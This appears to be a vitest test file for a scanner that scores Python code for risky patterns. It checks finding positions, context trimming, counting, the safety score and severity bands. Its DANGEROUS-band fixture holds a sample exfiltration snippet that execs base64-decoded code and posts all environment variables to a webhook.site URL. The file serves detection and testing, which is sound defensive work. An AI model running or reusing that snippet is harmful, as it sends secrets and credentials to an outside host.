import { beforeAll, describe, expect, test } from "vitest";
import { hashRules } from "../../components/skill-scanner/build/rules-hash.ts";
import { type CountingScanner, loadCountingScanner, type Report } from "./engine-scan.ts";
import { pythonExamples } from "./rule-examples.ts";

let scanner: CountingScanner;
beforeAll(async () => {
  scanner = await loadCountingScanner();
});

test("nothing found is said in the same shape", () => {
  const nothing: Report = {
    findings: [],
    safety_score: 1,
    summary: "SAFE: No issues detected.",
    total_findings: 0,
    findings_by_severity: { critical: 0, high: 0, medium: 0, low: 0 },
    engine: { rules: hashRules() },
  };
  expect(scanner.scan("")).toEqual(nothing);
  expect(scanner.scan("x = 1\n")).toEqual(nothing);
});

test("a finding has the seed's keys and ours, and no others", () => {
  expect(scanner.scan("x = 1\nif x:\n    eval(  y )  # why\n").findings).toEqual([
    {
      rule: "code-execution",
      category: "obfuscated_code",
      severity: "high",
      confidence: "medium",
      line: 3,
      column: 5,
      context: "eval(  y )  # why",
      context_column: 5,
      description: "Text is executed as code: what runs is decided while it runs, so nobody can review it beforehand.",
    },
  ]);
});

test("the answer's keys come in a fixed order", () => {
  const report = scanner.scan("eval(x)");
  expect(Object.keys(report)).toEqual([
    "findings",
    "safety_score",
    "summary",
    "total_findings",
    "findings_by_severity",
    "engine",
  ]);
  expect(Object.keys(report.findings[0] ?? {})).toEqual([
    "rule",
    "category",
    "severity",
    "confidence",
    "line",
    "column",
    "context",
    "context_column",
    "description",
  ]);
});

describe("places", () => {
  test.each([
    ["LF", "a\nb\neval(x)", 3, 1],
    ["CRLF", "a\r\nb\r\n  eval(x)", 3, 3],
    ["CR", "a\rb\reval(x)", 3, 1],
    ["a mixture", "a\r\n\r\n\n\reval(x)", 5, 1],
    ["a byte order mark", "\ufeffeval(x)", 1, 2],
    ["a tab", "if a:\n\teval(x)", 2, 2],
    ["letters beyond ASCII", 'é = "ß"; eval(x)', 1, 10],
    ["letters of two UTF-16 units", '"😀😀"; eval(x)', 1, 9],
    ["a call over several lines", "x = (\n  base\n  .a\n)\neval(\n  x\n)", 5, 1],
    ["a method on a later line", 'import os\n(\n  os\n    .system("id")\n)', 4, 6],
  ])("%s", (_, code, line, column) => {
    const places = scanner.scan(code).findings.map((finding) => [finding.line, finding.column]);
    expect(places).toContainEqual([line, column]);
  });
});

describe("context", () => {
  const contextOf = (code: string) => scanner.scan(code).findings[0]?.context;

  test("is the line without the white space around it", () => {
    expect(contextOf("if a:\n\t  eval(x) \t\r\nb")).toBe("eval(x)");
  });

  test("is cut after 200 UTF-16 units, never inside a character", () => {
    expect(contextOf(`eval(x) # ${"a".repeat(500)}`)).toBe(`eval(x) # ${"a".repeat(190)}`);
    expect(contextOf(`eval(x) # ${"é".repeat(500)}`)).toBe(`eval(x) # ${"é".repeat(190)}`);
    expect(contextOf(`eval(x) #${"😀".repeat(500)}`)).toBe(`eval(x) #${"😀".repeat(95)}`);
  });

  test("may hold anything that JSON has to escape", () => {
    const line = 'eval("\\"" + x) # \u0001\u007f\u001b[0m "quoted" \\ </script> \u2028 é 😀';
    expect(contextOf(line)).toBe(line);
  });
});

describe("counting", () => {
  test("one rule counts once a line", () => {
    expect(scanner.scan("eval(x); eval(y)\neval(z)").total_findings).toBe(2);
  });

  test("several rules count each", () => {
    const { findings_by_severity: counts, total_findings } = scanner.scan("import subprocess, ctypes\neval(x)");
    expect([total_findings, counts]).toEqual([3, { critical: 0, high: 1, medium: 0, low: 2 }]);
  });

  test("of one rule 100 are listed, all are counted, and the summary says so", () => {
    const report = scanner.scan("eval(x)\n".repeat(250));
    expect(report.findings).toHaveLength(100);
    expect(report.total_findings).toBe(250);
    expect(report.findings_by_severity["high"]).toBe(250);
    expect(report.summary).toMatch(/^MINOR: Found 250 issues \(250 high\)\. Categories: obfuscated code\. Listed: /);
  });

  test("findings come in the order of their lines", () => {
    const code = "def f():\n  eval(a)\neval(b)\ndef g():\n  eval(c)\n";
    expect(scanner.scan(code).findings.map(({ line }) => line)).toEqual([2, 3, 5]);
  });
});

describe("the score", () => {
  const WEIGHT: Record<string, number> = { low: 0.02, medium: 0.1, high: 0.25, critical: 0.5 };
  const CERTAINTY: Record<string, number> = { low: 0.5, medium: 0.8, high: 1 };
  const expected = (report: Report) => {
    const met = new Map(report.findings.map((finding) => [finding.rule, finding]));
    const left = [...met.values()].map(
      ({ severity, confidence }) => 1 - (WEIGHT[severity] ?? 0) * (CERTAINTY[confidence] ?? 0),
    );
    return left.reduce((score, factor) => score * factor, 1);
  };

  test("is the product over the distinct rules of what each leaves", () => {
    for (const code of pythonExamples(["bad"])) {
      const report = scanner.scan(code);
      expect(Math.abs(report.safety_score - expected(report))).toBeLessThan(0.00051); // rounded to thousandths
    }
  });

  test("does not fall with the number of findings of one rule", () => {
    expect(scanner.scan("eval(x)\n".repeat(50)).safety_score).toBe(scanner.scan("eval(x)").safety_score);
  });

  test.each([
    ["SAFE", "x = 1"],
    ["MINOR", "import subprocess"],
    ["SUSPICIOUS", "eval(x)\nimport subprocess"],
    ["RISKY", "import base64\nexec(base64.b64decode(x))"],
    [
      "DANGEROUS",
      'import base64, os, requests\nexec(base64.b64decode(x))\nrequests.post("https://webhook.site/x", json=dict(os.environ))',
    ],
  ])("%s is the word for its band", (word, code) => {
    const { safety_score: score, summary } = scanner.scan(code);
    expect(summary.split(":")[0]).toBe(word);
    expect(band(score)).toBe(word);
  });
});

function band(score: number): string {
  if (score === 1) return "SAFE";
  if (score >= 0.8) return "MINOR";
  if (score >= 0.6) return "SUSPICIOUS";
  return score >= 0.3 ? "RISKY" : "DANGEROUS";
}

test("the summary has the seed's form", () => {
  const { summary } = scanner.scan('import os, subprocess\nkey = os.environ["API_KEY"]\n');
  expect(summary).toBe("MINOR: Found 2 issues (1 medium, 1 low). Categories: api exfiltration, dangerous imports.");
});

test("of a long line the part around the place is shown, and the column where that starts", () => {
  const before = `x = "${"é😀".repeat(200)}"; `;
  const [finding] = scanner.scan(`${before}eval(y); z = "${"w".repeat(500)}"`).findings;
  const { column = 0, context = "", context_column: start = 0 } = finding ?? {};
  expect(column).toBe(before.length + 1);
  expect(context.slice(column - start)).toMatch(/^eval\(y\); z = "w+$/);
  expect(context.length).toBeLessThanOrEqual(200);
});
